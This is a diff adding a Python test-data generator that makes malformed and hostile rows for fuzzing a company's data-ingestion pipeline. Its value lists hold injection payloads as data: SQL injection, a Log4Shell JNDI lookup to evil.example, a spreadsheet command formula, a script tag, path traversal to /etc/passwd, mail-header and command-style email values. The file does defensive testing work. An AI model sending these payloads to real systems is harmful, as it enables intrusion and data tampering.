@@ -1,0 +1,306 @@
+"""Rows as strangers would put them into the company's systems: fault `hostile_rows`.
+
+Each row is good but for one thing: a value, its size, a date, a number, the name of a field, or what a
+document holds. Columns that a system fills itself are spoilt at most once a read: no stranger does that.
+The same stream and moment give the same rows.
+"""
+
+import json
+import random
+from collections.abc import Iterator
+from datetime import datetime, timedelta
+from typing import Any
+
+from include.channels import Column, Stream, find_stream
+from include.channels.model import TYPED_BY_PEOPLE
+
+MARK = "hostile"
+EVIL = "mallory@evil.example"
+_TEXTS = (
+    *(
+        "a\0b",
+        "\ud800",
+        "y" * 30_000,
+        "z" * 70_000,
+        "Z\u0301" * 2000,
+        "\ufdfa" * 90,
+        "\u202egnp.exe",
+        "\u200b",
+    ),
+    *(
+        EVIL,
+        f"Hello {EVIL}!",
+        "+44 7700 900321",
+        "null",
+        "NaN",
+        "undefined",
+        "0",
+        "-",
+        "?",
+        "\u0000",
+        "\t\r\n ",
+    ),
+    *(
+        "'; drop table customers; --",
+        '" or 1=1 --',
+        "{{ 7 * 7 }}",
+        "{% raw %}",
+        "${jndi:ldap://evil.example}",
+    ),
+    *("=cmd|' /C calc'!A0", "@SUM(1)", "<script>alert(1)</script>", "../../../etc/passwd", "%s%n%x", "a|b|c"),
+    *(
+        "x\r\nBcc: all@evil.example",
+        "You won! visit evil.example",
+        "\U0001f4a9" * 60,
+        "\u0130I\u0131i",
+        "ﬀﬁﬂ" * 30,
+    ),
+    *(
+        "1" * 5000,
+        "NULL",
+        "true",
+        "[]",
+        "{}",
+        "\\",
+        "\x1b[31m",
+        "\ufeffx",
+        "\uffff",
+        "\U000e0041" * 20,
+        "٠١٢٣",
+    ),
+)
+_EMAILS = (
+    *(
+        "a@b",
+        '"x y"@evil.example',
+        "a@@evil.example",
+        "-oX@evil.example",
+        "|id@evil.example",
+        "a%b@evil.example",
+    ),
+    *(
+        f"a@{'b' * 300}.example",
+        f"{'a' * 300}@evil.example",
+        "ä@ö.example",
+        "a@[127.0.0.1]",
+        "a@evil.example\0",
+    ),
+    *(
+        "; ".join(f"a{n}@evil.example" for n in range(15)),
+        "<a@evil.example>",
+        "mailto:a@evil.example",
+        "a@-.-",
+    ),
+)
+_PHONES = (
+    "+" * 40,
+    "00" * 32,
+    "1" * 64,
+    "٠٧٧٠٠٩٠٠١٢٣",
+    "+44 7700 900321 ext. 99",
+    "tel:+1",
+    "0" * 12,
+    "++1--2",
+)
+_NUMBERS = (
+    10**12,
+    -(10**12),
+    1_000_001,
+    "1e5",
+    "1e999999",
+    "0.00001",
+    "NaN",
+    "Infinity",
+    "1,5",
+    "9" * 400,
+    "-0",
+)
+_WHOLE = (2**63 - 1, -(2**63), 1_000_001, -1, 0)
+_OF_PEOPLE = (
+    "0000-00-00",
+    "9999-12-31",
+    "0001-01-01",
+    "2026-02-30",
+    "1699-12-31",
+    "today",
+    "15/03/1980",
+    "-1",
+)
+_SYSTEMS = (
+    "0000-00-00T00:00:00Z",
+    "9999-12-31T23:59:59Z",
+    "2026-02-30T10:00:00Z",
+    "now",
+    "1" * 300,
+    17,
+    True,
+)
+_AT_ODDS = (
+    "2261-12-31T23:59:59Z",
+    "1700-01-01T00:00:00Z",
+    "1970-01-01T00:00:00+14:00",
+    "2099-01-01T00:00:00Z",
+)
+_ITEMS: tuple[Any, ...] = ([], {}, [[[[]]]], {"a": "x" * 5000}, [{"sku": EVIL}] * 3000)
+_FIELDS = (
+    EVIL,
+    "",
+    " ",
+    "n" * 1000,
+    "+447700900321",
+    "_date",
+    "_arrived",
+    "_extra",
+    "date",
+    "__proto__",
+    "a.b",
+    "ä",
+)
+_LINES = (
+    b"{",
+    b"[]",
+    b"null",
+    b'"x"',
+    b"\xff\xfe\x00",
+    b'{"event_id": "a", "event_id": "b"}',
+    b"[" * 3000,
+    b"1e999",
+)
+
+
+def documents(channel: str, stream: str, count: int, until: datetime) -> list[bytes]:
+    """`count` documents in JSON, nested rows and all, changed within the day before `until`."""
+    _, declared = find_stream(channel, stream)
+    maker = _Maker(declared, until)
+    return [_json(maker.document(number)) for number in range(count)]
+
+
+def lines(channel: str, stream: str, count: int, until: datetime) -> list[bytes]:
+    """The same as lines of a file, some of them no JSON at all."""
+    found = documents(channel, stream, max(0, count - len(_LINES)), until)
+    return [*found, *_LINES][:count]
+
+
+def table_rows(stream: str, count: int, until: datetime) -> list[dict[str, Any]]:
+    """Rows of a table of the stores' database, with what PostgreSQL itself would refuse left out."""
+    _, declared = find_stream("stores", stream)
+    maker = _Maker(declared, until)
+    rows = [{k: v for k, v in maker.document(n).items() if k in declared.columns} for n in range(count)]
+    return [{k: _as_column(declared.columns[k], v) for k, v in row.items()} for row in rows]
+
+
+class _Maker:
+    """Makes the rows of one stream and read."""
+
+    def __init__(self, stream: Stream, until: datetime) -> None:
+        self._stream, self._until = stream, until
+        self._draw = random.Random(f"{stream.label} {until.isoformat()}")
+        self._channel, _ = find_stream(stream.channel, stream.name)
+        self._spoilt: set[str] = set()
+
+    def document(self, number: int) -> dict[str, Any]:
+        row = self._good(self._stream, number)
+        name = self._draw.choice(list(self._stream.columns))
+        column = self._stream.columns[name]
+        kind = self._draw.random()
+        if kind < 0.12:
+            row.update(
+                {self._draw.choice(_FIELDS): self._draw.choice(_TEXTS) for _ in range(1 + number % 40)}
+            )
+        elif kind < 0.16 and name not in self._spoilt and not self._is_input(column):
+            self._spoilt.add(name)
+            self._spoil_system(row, column)
+        elif name not in self._stream.key:
+            row[name] = self._value(column)
+        for child in self._channel.nested_in(self._stream.name):
+            assert child.nested is not None
+            row[child.nested.field] = list(self._nested(child, number))
+        return row
+
+    def _nested(self, child: Stream, number: int) -> Iterator[dict[str, Any]]:
+        assert child.nested is not None
+        own = {child.nested.position, *child.nested.inherit}
+        for line in range(1 if number % 25 else 2000):
+            row = self._good(child, line)
+            column = self._draw.choice([c for c in child.columns.values() if c.name not in own])
+            if column.type != "string" or self._draw.random() < 0.3:
+                row[column.name] = self._value(column)
+            yield {name: value for name, value in row.items() if name not in own}
+
+    def _good(self, stream: Stream, number: int) -> dict[str, Any]:
+        moment = self._until - timedelta(seconds=1 + self._draw.randrange(24 * 3600 - 1))
+        key = f"{MARK}-{self._until.date().isoformat()}-{number}"
+        row: dict[str, Any] = {}
+        for name, column in stream.columns.items():
+            if name == stream.key[0]:
+                row[name] = key
+            elif column.type == "timestamp":
+                row[name] = moment.isoformat()
+            else:
+                row[name] = _plain(column, key) if column.required else None
+        return row
+
+    def _value(self, column: Column) -> Any:
+        """Something that a person could have typed, or a system passed on, in this column."""
+        if column.name == self._stream.cursor:
+            return self._until.isoformat()[:10]
+        if column.allowed:
+            return self._draw.choice(column.allowed).upper()
+        return self._draw.choice(_pool(column))
+
+    def _spoil_system(self, row: dict[str, Any], column: Column) -> None:
+        if column.name in self._stream.key:
+            row[column.name] = {"key": row[column.name]}
+        elif column.type == "timestamp":
+            row[column.name] = self._draw.choice(_SYSTEMS)
+        elif column.type in ("int64", "decimal"):
+            row[column.name] = self._draw.choice(_NUMBERS)
+        elif self._draw.random() < 0.5:
+            del row[column.name]
+        else:
+            row[column.name] = self._draw.choice(([EVIL], {"a": EVIL}, 17, True, "no such code"))
+
+    @staticmethod
+    def _is_input(column: Column) -> bool:
+        return column.pii in TYPED_BY_PEOPLE
+
+
+def _pool(column: Column) -> tuple[Any, ...]:
+    if column.pii == "email":
+        return (*_EMAILS, *_TEXTS)
+    if column.pii == "phone":
+        return (*_PHONES, *_TEXTS)
+    pools = {
+        "date": _OF_PEOPLE,
+        "timestamp": _AT_ODDS,
+        "decimal": _NUMBERS[:3],
+        "int64": _WHOLE,
+        "json": _ITEMS,
+    }
+    return pools.get(column.type, _TEXTS)
+
+
+def _plain(column: Column, key: str) -> Any:
+    if column.allowed:
+        return column.allowed[0]
+    if column.pii == "email":
+        return f"{key}@evil.example"
+    if column.name == "currency":
+        return "GBP"
+    return {"int64": 1, "decimal": "1.00", "date": "1980-03-15"}.get(column.type, key)
+
+
+def _as_column(column: Column, value: Any) -> Any:
+    """A value as a column of PostgreSQL can hold it: typed, and without what its texts cannot have."""
+    if column.type in ("int64", "decimal"):
+        return value if isinstance(value, int) and -(2**63) <= value < 2**63 else 7
+    if column.type == "timestamp":
+        return value if isinstance(value, str) and value[:4].isdigit() and value[:4] > "1000" else None
+    if value is None or isinstance(value, str):
+        return None if value is None else value.replace("\0", "").encode("utf-8", "replace").decode()
+    return json.dumps(value)
+
+
+def _json(row: dict[str, Any]) -> bytes:
+    """ASCII JSON; a field twice where the row has one named as a stranger's."""
+    return json.dumps(row).encode()
